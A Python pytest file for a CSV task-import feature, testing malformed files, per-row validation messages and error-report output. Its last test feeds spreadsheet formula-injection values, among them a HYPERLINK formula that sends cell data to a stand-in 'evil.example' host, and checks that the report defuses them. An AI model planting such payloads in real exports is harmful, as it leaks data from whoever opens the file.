"""Bad and unusual files: each ends with a clear job result, never a 500, and whole-file failures
insert nothing."""

import httpx
import pytest

from core.settings import Settings
from db.engine import SessionFactory
from db.models import ImportStatus, TaskStatus
from importer.runner import ImportRunner, bounded_message, listing
from tests.support.graphql import bearer
from tests.support.imports import (
    HEADER,
    IMPORT_JOB,
    download_report,
    error_rows,
    job_row,
    parse_report,
    run_queue,
    task_rows,
    upload_job,
)
from tests.support.world import ImportWorld

GOOD = "1,Write docs,Explain the API,Pending,2\n"

WHOLE_FILE_FAILURES = {
    "empty": (b"", "The file is empty."),
    "blank lines only": (b"\n\n  \n", "no header row"),
    "no header": (GOOD.encode() * 2, "The file has no header row"),
    "missing column": (
        b"project_id,title,description,status\n1,A,B,Pending\n",
        "lacks the required column assigned_to",
    ),
    "duplicate column": (
        f"{HEADER},Title\n1,A,B,Pending,2,C\n".encode(),
        "names the column title twice (columns 2 and 6)",
    ),
    "latin-1 bytes": (
        f"{HEADER}\n{GOOD}1,Caf\xe9,menu,Pending,2\n".encode("latin-1"),
        "Line 3 is not valid UTF-8 (byte 0xE9 at position 6)",
    ),
    "NUL byte": (
        f"{HEADER}\n{GOOD * 500}".encode() + b"1,bin\x00ary,x,Done,\n",
        "Line 502 contains a NUL byte",
    ),
    "binary file": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "This is a binary file"),
    "unterminated quote": (
        f'{HEADER}\n{GOOD}1,"Never closed,desc,Pending,2\n{GOOD}{GOOD}'.encode(),
        "A quoted field that opens on line 3 is never closed",
    ),
    "stray quote": (
        f'{HEADER}\n{GOOD}1,"Quoted"trailing,desc,Pending,2\n'.encode(),
        "Broken CSV quoting on line 3",
    ),
}


@pytest.mark.parametrize("case", list(WHOLE_FILE_FAILURES))
async def test_whole_file_failures(
    import_world: ImportWorld,
    case: str,
    client: httpx.AsyncClient,
    session_factory: SessionFactory,
    settings: Settings,
    admin_token: str,
) -> None:
    content, message = WHOLE_FILE_FAILURES[case]
    job_id = await upload_job(client, content, token=admin_token)
    await run_queue(session_factory, settings)
    job = await job_row(session_factory, job_id)
    assert job.status == ImportStatus.FAILED
    assert job.message is not None
    assert message in job.message
    assert (job.rows_imported, job.rows_failed) == (0, 0)
    assert await task_rows(session_factory) == []
    report = await download_report(client, job_id, token=admin_token)
    assert report.status_code == 200
    assert len(parse_report(report.text)) == 1  # the header only


async def test_a_failure_late_in_a_large_file_inserts_nothing(
    import_world: ImportWorld,
    client: httpx.AsyncClient,
    session_factory: SessionFactory,
    settings: Settings,
    admin_token: str,
) -> None:
    content = (f"{HEADER}\n" + GOOD * 1000).encode() + b"1,\xff\xfe,x,Done,\n"
    job_id = await upload_job(client, content, token=admin_token)
    small_batches = settings.model_copy(update={"import_batch_size": 50})
    await ImportRunner(session_factory, small_batches).run_until_idle()
    job = await job_row(session_factory, job_id)
    assert job.status == ImportStatus.FAILED
    assert job.message is not None
    assert "Line 1002 is not valid UTF-8" in job.message
    assert await task_rows(session_factory) == []


async def test_header_only_succeeds_with_nothing_to_do(
    client: httpx.AsyncClient, session_factory: SessionFactory, settings: Settings, admin_token: str
) -> None:
    job_id = await upload_job(client, f"{HEADER}\n".encode(), token=admin_token)
    await run_queue(session_factory, settings)
    job = await job_row(session_factory, job_id)
    assert (job.status, job.rows_total, job.rows_processed) == (ImportStatus.SUCCEEDED, 0, 0)
    assert job.message == "The file has a header row but no data rows."


async def test_twenty_thousand_extra_columns_give_a_bounded_message(
    import_world: ImportWorld,
    client: httpx.AsyncClient,
    session_factory: SessionFactory,
    settings: Settings,
    admin_token: str,
) -> None:
    extra = [f"extra_column_{n}" for n in range(20_000)]
    text = ",".join([HEADER, *extra]) + "\n" + "1,Kept,,Done," + "," * len(extra) + "\n"
    job_id = await upload_job(client, text.encode(), token=admin_token)
    await run_queue(session_factory, settings)
    job = await job_row(session_factory, job_id)
    assert job.status == ImportStatus.SUCCEEDED
    assert job.message is not None
    assert len(job.message) <= 2000
    assert job.message.startswith("Ignored the extra columns: extra_column_0, extra_column_1, ")
    shown = job.message.count("extra_column_")
    assert job.message.endswith(f" … and {20_000 - shown:,} more columns."), job.message
    answer = await client.post(
        "/graphql",
        json={"query": IMPORT_JOB, "variables": {"id": job_id}},
        headers=bearer(admin_token),
    )
    assert answer.json()["data"]["importJob"]["message"] == job.message


def test_a_long_message_is_cut_with_a_count() -> None:
    assert bounded_message("short") == "short"
    cut = bounded_message("x" * 10_000)
    assert cut is not None
    assert len(cut) <= 2000
    assert cut.endswith(f"… ({10_000 - cut.count('x'):,} more characters)")
    assert listing(["a" * 100] * 3, "columns") == ", ".join(["a" * 39 + "…"] * 3)


async def test_bom_crlf_quoted_newlines_and_a_loose_header(
    import_world: ImportWorld,
    client: httpx.AsyncClient,
    session_factory: SessionFactory,
    settings: Settings,
    admin_token: str,
) -> None:
    text = (
        " Assigned To ,STATUS,Title,Notes,Project ID,description\r\n"
        "2,in progress,First,n1,1,plain\r\n"
        "\r\n"
        ',DONE,Second,n2,1,"two\r\nlines, and a ""quote"""\r\n'
        "999,Pending,Third,n3,1,x\r\n"
        ",In_Progress,Fourth,n4,1,\r\n"
    )
    job_id = await upload_job(client, b"\xef\xbb\xbf" + text.encode(), token=admin_token)
    await run_queue(session_factory, settings)
    job = await job_row(session_factory, job_id)
    assert job.status == ImportStatus.SUCCEEDED
    assert job.message == "Ignored the extra columns: Notes."
    assert (job.rows_total, job.rows_imported, job.rows_failed) == (4, 3, 1)
    tasks = {t.title: t for t in await task_rows(session_factory)}
    assert set(tasks) == {"First", "Second", "Fourth"}
    assert (tasks["First"].status, tasks["First"].assigned_to) == (TaskStatus.IN_PROGRESS, 2)
    assert tasks["Second"].description == 'two\r\nlines, and a "quote"'
    assert (tasks["Second"].status, tasks["Second"].assigned_to) == (TaskStatus.DONE, None)
    assert tasks["Fourth"].status == TaskStatus.IN_PROGRESS
    # The quoted line break makes "Third" start on line 6 of the upload.
    [error] = await error_rows(session_factory, job_id)
    assert (error.line, error.error) == (6, "user 999 (assigned_to) does not exist")


async def test_every_reason_is_reported_for_every_bad_row(
    import_world: ImportWorld,
    client: httpx.AsyncClient,
    session_factory: SessionFactory,
    settings: Settings,
    admin_token: str,
) -> None:
    long_title = "T" * 256
    rows = [
        f"abc,,{'d' * 5001},Started,xyz",
        f"1,{long_title},ok,,{import_world.inactive_member_id}",
        f"1,Outsider,ok,Done,{import_world.outsider_id}",
        "7,Lost,ok,Done,",
        f"7,Lost too,ok,pending,{import_world.member_id}",
        "1,Short row,Pending",
        "0,Zero,ok,Done,99999999999",
        f"1,Good one,ok,DONE,{import_world.member_id}",
        "1,\u200b\u3000\u200d,ok,Done,",
    ]
    job_id = await upload_job(client, "\n".join([HEADER, *rows]).encode(), token=admin_token)
    await run_queue(session_factory, settings)
    reasons = {e.line: e.error for e in await error_rows(session_factory, job_id)}
    assert reasons == {
        2: 'project_id "abc" is not a valid id; title is required; description has 5001 '
        'characters, the limit is 5000; status "Started" is not one of Pending, In Progress or '
        'Done; assigned_to "xyz" is not a valid user id',
        3: "title has 256 characters, the limit is 255; status is required (Pending, In Progress"
        f" or Done); user {import_world.inactive_member_id} (assigned_to) is deactivated",
        4: f"user {import_world.outsider_id} (assigned_to) is not a member of project 1",
        5: "project 7 does not exist",
        6: "project 7 does not exist",
        7: "the row has 3 fields, the header has 5",
        8: 'project_id "0" is not a valid id; assigned_to "99999999999" is not a valid user id',
        10: "title has no visible character (only spaces or invisible ones)",
    }
    assert [t.title for t in await task_rows(session_factory)] == ["Good one"]


async def test_a_five_megabyte_field_fails_its_row_only(
    import_world: ImportWorld,
    client: httpx.AsyncClient,
    session_factory: SessionFactory,
    settings: Settings,
    admin_token: str,
) -> None:
    huge = "x" * (5 * 1024 * 1024)
    content = f'{HEADER}\n{GOOD}1,Huge,"{huge}",Done,\n{GOOD}'.encode()
    job_id = await upload_job(client, content, token=admin_token)
    await run_queue(session_factory, settings)
    job = await job_row(session_factory, job_id)
    assert (job.status, job.rows_imported, job.rows_failed) == (ImportStatus.SUCCEEDED, 2, 1)
    report = parse_report((await download_report(client, job_id, token=admin_token)).text)
    assert report[1][-2:] == ["3", "description has 5242880 characters, the limit is 5000"]
    assert len(report[1][2]) == 10_001  # the stored cell is cut, not the whole 5 MB


async def test_formula_cells_are_neutralised_in_the_report(
    import_world: ImportWorld,
    client: httpx.AsyncClient,
    session_factory: SessionFactory,
    settings: Settings,
    admin_token: str,
) -> None:
    rows = [
        '-1,=HYPERLINK("http://evil.example/?x="&A1),@SUM(A1:A9),+cmd,\t9',
        '1,"\rcarriage",=1+1,Pending,999',
        "1,=SUM(A1:A2),a valid title that looks like a formula,Pending,",
    ]
    job_id = await upload_job(client, "\n".join([HEADER, *rows]).encode(), token=admin_token)
    await run_queue(session_factory, settings)
    report = parse_report((await download_report(client, job_id, token=admin_token)).text)
    assert report[1][:5] == [
        "'-1",
        '\'=HYPERLINK("http://evil.example/?x="&A1)',
        "'@SUM(A1:A9)",
        "'+cmd",
        "'\t9",
    ]
    assert report[2][:3] == ["1", "'\rcarriage", "'=1+1"]
    assert len(report) == 3
    # Valid rows are data, stored as written; only the report (a spreadsheet) is defused.
    assert [t.title for t in await task_rows(session_factory)] == ["=SUM(A1:A2)"]
